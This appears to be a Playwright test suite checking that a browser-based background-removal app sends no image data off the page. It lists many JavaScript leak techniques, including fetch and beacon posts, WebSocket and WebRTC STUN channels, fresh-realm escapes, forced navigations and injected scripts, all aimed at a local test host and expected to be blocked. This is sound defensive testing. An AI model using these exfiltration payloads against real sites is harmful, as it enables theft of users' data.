"""No byte of a picture leaves the tab: every request is recorded, and planted leaks are stopped."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Worker

from offcut_testing import chromium
from offcut_testing.driver import developer_tools, is_kept, is_ready, remove_background, visit
from offcut_testing.host import Host
from tests.browser.offline.elsewhere import Elsewhere
from tests.browser.offline.net_log import Sent, requests
from tests.conftest import ROOT

_FETCH = "fetch(URL, { method: 'POST', body: 'picture', mode: 'no-cors' })"
_SOCKET = """new Promise((done, failed) => {
  const socket = new WebSocket(URL.replace('http', 'ws'));
  socket.onopen = done;
  socket.onerror = failed;
})"""
_ELEMENT = """new Promise((done, failed) => {
  const element = document.createElement(NAME);
  element.onload = done;
  element.onerror = failed;
  element[NAME === 'link' ? 'href' : 'src'] = URL;
  element.rel = 'stylesheet';
  document.body.append(element);
})"""
_FORM = """new Promise((done, failed) => {
  const form = document.createElement('form');
  form.method = 'post';
  form.action = URL;
  document.addEventListener('securitypolicyviolation', failed, { once: true });
  document.body.append(form);
  form.submit();
})"""
_BEACON = """new Promise((done, failed) => {
  document.addEventListener('securitypolicyviolation', failed, { once: true });
  navigator.sendBeacon(URL, 'picture');
})"""
_FRAME = """new Promise((done, failed) => {
  const frame = document.createElement('iframe');
  document.addEventListener('securitypolicyviolation', failed, { once: true });
  frame.src = URL;
  document.body.append(frame);
})"""
# a STUN server is told who asks; its name and port could be anything that a script wants to tell
_CHANNEL = """(async (server) => {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${server}` }] });
  connection.createDataChannel('picture');
  await connection.setLocalDescription(await connection.createOffer());
  await new Promise((resolve) => setTimeout(resolve, 1500));
})(URL.split('/')[2])"""
_EVENTS = "new Promise((done, failed) => { const s = new EventSource(URL); s.onerror = failed; })"
_IMPORT = "import(URL)"
_REALMS = {
    "blank frame": "const f = document.createElement('iframe'); document.body.append(f);"
    "const realm = f.contentWindow;",
    "frame by its index": "const f = document.createElement('IFRAME'); document.body.append(f);"
    "const realm = globalThis[0];",
    "frame of a namespace": "const f = document.createElementNS('http://www.w3.org/1999/xhtml',"
    "'x:iframe'); document.body.append(f); const realm = f.contentWindow;",
    "frame by srcdoc": "const f = document.createElement('iframe'); f.srcdoc = '<p>';"
    "document.body.append(f); await new Promise((done) => (f.onload = done));"
    "const realm = f.contentWindow;",
    "markup": "document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');"
    "const realm = globalThis[0];",
    "markup by a policy of its own": "const createHTML = (text) => text;"
    "trustedTypes.createPolicy('default', { createHTML });"
    "document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');"
    "const realm = globalThis[0];",
    "parsed document": "const d = new DOMParser().parseFromString('<iframe>', 'text/html');"
    "document.body.append(d.querySelector('iframe')); const realm = globalThis[0];",
    "written document": "document.write('<iframe></iframe>'); const realm = globalThis[0];",
    "document of a frame": "const d = document.implementation.createDocument("
    "'http://www.w3.org/1999/xhtml', 'iframe'); document.body.append(d.documentElement);"
    "const realm = globalThis[0];",
    "element of its own": "class F extends HTMLIFrameElement {}"
    "customElements.define('f-f', F, { extends: 'iframe' }); document.body.append(new F());"
    "const realm = globalThis[0];",
    "object": "const f = document.createElement('object'); f.data = 'about:blank';"
    "document.body.append(f); await new Promise((done) => setTimeout(done, 300));"
    "const realm = f.contentWindow;",
    "window": "const realm = window.open('about:blank');",
    "document's window": "const realm = document.open('about:blank', 'x', 'popup');",
}
"""Ways to the globals of another window, which have what was taken from the page's."""
_GOING = {
    "location": "location.href = URL",
    "top": "top.location.replace(URL)",
    "link": "const a = document.createElement('a'); a.href = URL; a.click()",
    "link to save": "const a = document.createElement('a'); a.href = URL; a.download = 'x';"
    "a.click()",
    "refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
    "m.content = `0;url=${URL}`; document.head.append(m)",
    "another's trick": "NavigateEvent.prototype.preventDefault = () => {};"
    "Event.prototype.preventDefault = () => {}; String.prototype.startsWith = () => true;"
    "location.href = URL",
    "window": "globalThis.open?.(URL)",
}
"""Ways to leave for another site with something in the address."""
_NEW_WINDOW = "const a = document.createElement('a'); a.href = URL; a.target = '_blank'; a.click()"

PAGE_LEAKS = {
    "fetch": _FETCH,
    "socket": _SOCKET,
    "image": _ELEMENT.replace("NAME", "'img'"),
    "script": _ELEMENT.replace("NAME", "'script'"),
    "style": _ELEMENT.replace("NAME", "'link'"),
    "form": _FORM,
    "beacon": _BEACON,
    "frame": _FRAME,
    "channel": _CHANNEL,
    "events": _EVENTS,
    "import": _IMPORT,
}
WORKER_LEAKS = {"fetch": _FETCH, "socket": _SOCKET, "events": _EVENTS, "import": _IMPORT}


@pytest.fixture(
    scope="module",
    params=["headers", pytest.param("meta tag", marks=pytest.mark.full), "service worker"],
)
def guarded(
    request: pytest.FixtureRequest, browser: Browser, site: str, plain_site: str
) -> Iterator[Page]:
    """The page, under the policy as it comes in each of three ways."""
    allowed = request.param == "service worker"
    with browser.new_context(service_workers="allow" if allowed else "block") as context:
        yield visit(context, site if request.param == "headers" else plain_site)


def _attempt(place: Page | Worker, leak: str, url: str) -> str:
    script = leak.replace("URL", repr(url))
    return str(
        place.evaluate(
            f"""() => Promise.race([
              {script}.then(() => 'sent', () => 'stopped'),
              new Promise((done) => setTimeout(done, 3000, 'nothing happened')),
            ])"""
        )
    )


def _recorded(browser: Browser, log: Path, use: Any) -> list[Sent]:
    """Run something in a browser of its own; returns all requests it made."""
    recorder = browser.browser_type.launch(
        executable_path=chromium.executable(),
        args=[*chromium.ARGUMENTS, f"--log-net-log={log}"],
    )
    try:
        page = recorder.new_page()
        page.set_default_timeout(120_000)
        use(page)
    finally:
        recorder.close()
    return requests(log)


def test_a_whole_session_only_gets_files_of_the_site(
    browser: Browser, real_host: Host, photos: Path, tmp_path: Path
) -> None:
    host = real_host
    photo = (photos / "rocket.jpg").read_bytes()

    def use(page: Page) -> None:
        page.goto(host.url)
        is_ready(page)
        outcome = remove_background(page, photo, model="isnet_quint8")
        assert outcome.error is None, outcome
        is_kept(page)
        page.reload()
        is_ready(page)
        assert remove_background(page, b"junk").error == "UnreadableImageError"
        page.evaluate(
            "navigator.serviceWorker.getRegistration().then((one) => one.update()).then(() => 0)"
        )
        page.context.set_offline(True)
        page.reload()
        is_ready(page)
        assert remove_background(page, photo, model="isnet_quint8").error is None

    everything = _recorded(browser, tmp_path / "net.json", use)
    # what the browser asks of its maker has no page behind it
    sent = [one for one in everything if one.initiator or one.url.startswith(host.url)]
    assert len(sent) > 50
    for what in (".gz", ".wasm", "/sw.js"):
        assert any(request.url.endswith(what) for request in sent), f"{what} is recorded"
    files = {path.relative_to(host.root).as_posix() for path in host.root.rglob("*")}
    for request in sent:
        assert request.url.startswith(host.url), request
        name = request.url.removeprefix(host.url).partition("?")[0] or "index.html"
        assert name in files, request
        assert request.method == "GET", request
        assert not request.has_body, request


def test_the_record_shows_what_is_sent(
    browser: Browser, elsewhere: Elsewhere, tmp_path: Path
) -> None:
    def use(page: Page) -> None:
        page.goto(elsewhere.url)
        page.evaluate("(url) => fetch(url, { method: 'POST', body: 'picture' })", elsewhere.url)
        assert _attempt(page, _CHANNEL, elsewhere.url) == "sent"

    sent = _recorded(browser, tmp_path / "net.json", use)
    assert any(request.method == "POST" and request.has_body for request in sent)
    assert "a datagram" in elsewhere.heard


@pytest.mark.parametrize("leak", PAGE_LEAKS)
def test_policy_stops_the_page(guarded: Page, elsewhere: Elsewhere, leak: str) -> None:
    assert _attempt(guarded, PAGE_LEAKS[leak], elsewhere.url) == "stopped"
    assert elsewhere.heard == []


@pytest.mark.parametrize("way", _REALMS)
def test_no_other_realm_gives_the_page_a_channel(
    guarded: Page, elsewhere: Elsewhere, way: str
) -> None:
    channel = _CHANNEL.replace("new RTC", "new realm.RTC")
    leak = f"(async () => {{ {_REALMS[way]} await {channel}; }})()"
    assert _attempt(guarded, leak, elsewhere.url) == "stopped"
    assert elsewhere.heard == []


def test_policy_stops_frames_that_nothing_else_stops(guarded: Page, elsewhere: Elsewhere) -> None:
    """In a world of its own, which has the browser's functions as they were."""
    tools = developer_tools(guarded)
    frame = tools.send("Page.getFrameTree")["frameTree"]["frame"]["id"]
    world = tools.send("Page.createIsolatedWorld", {"frameId": frame})["executionContextId"]
    script = _FRAME.replace("URL", repr(elsewhere.url))
    answer = tools.send(
        "Runtime.evaluate",
        {
            "expression": f"{script}.then(() => 'sent', () => 'stopped')",
            "contextId": world,
            "awaitPromise": True,
        },
    )
    assert answer["result"]["value"] == "stopped"
    assert elsewhere.heard == []


@pytest.mark.parametrize(
    "way",
    [
        pytest.param(way, marks=[] if way in ("location", "link") else pytest.mark.full)
        for way in _GOING
    ],
)
def test_the_page_does_not_go_elsewhere(
    browser: Browser, site: str, elsewhere: Elsewhere, way: str
) -> None:
    with browser.new_context(service_workers="block") as context:
        page = context.new_page()
        page.goto(site)
        page.evaluate(f"() => {{ {_GOING[way].replace('URL', repr(elsewhere.url))} }}")
        page.wait_for_timeout(1000)
        assert page.url == site
    assert elsewhere.heard == []


def test_what_stays_open_is_what_the_documents_say(
    browser: Browser, site: str, elsewhere: Elsewhere
) -> None:
    with browser.new_context(service_workers="block") as context:
        page = context.new_page()
        page.goto(site)
        with context.expect_page() as opened:
            page.evaluate(f"() => {{ {_NEW_WINDOW.replace('URL', repr(elsewhere.url))} }}")
        opened.value.wait_for_load_state()
    assert "GET /leak" in elsewhere.heard
    assert "a link that opens a new window" in " ".join((ROOT / "SECURITY.md").read_text().split())


def test_policy_stops_the_workers(guarded: Page, elsewhere: Elsewhere) -> None:
    workers = [worker for worker in guarded.workers if "ort-wasm" not in worker.url]
    assert len(workers) == 2
    for worker in workers:
        for leak in WORKER_LEAKS.values():
            assert _attempt(worker, leak, elsewhere.url) == "stopped"
    assert elsewhere.heard == []


def test_script_planted_in_the_page_does_not_run(guarded: Page) -> None:
    ran = guarded.evaluate(
        """async () => {
          const script = document.createElement('script');
          const image = document.createElement('template');
          try {
            image.innerHTML = '<img src="x" onerror="globalThis.planted = true">';
          } catch {} // Trusted Types refuse it
          try {
            script.textContent = 'globalThis.planted = true';
          } catch {}
          document.body.append(script, image.content);
          await new Promise((resolve) => setTimeout(resolve, 500));
          return globalThis.planted === true;
        }"""
    )
    assert not ran
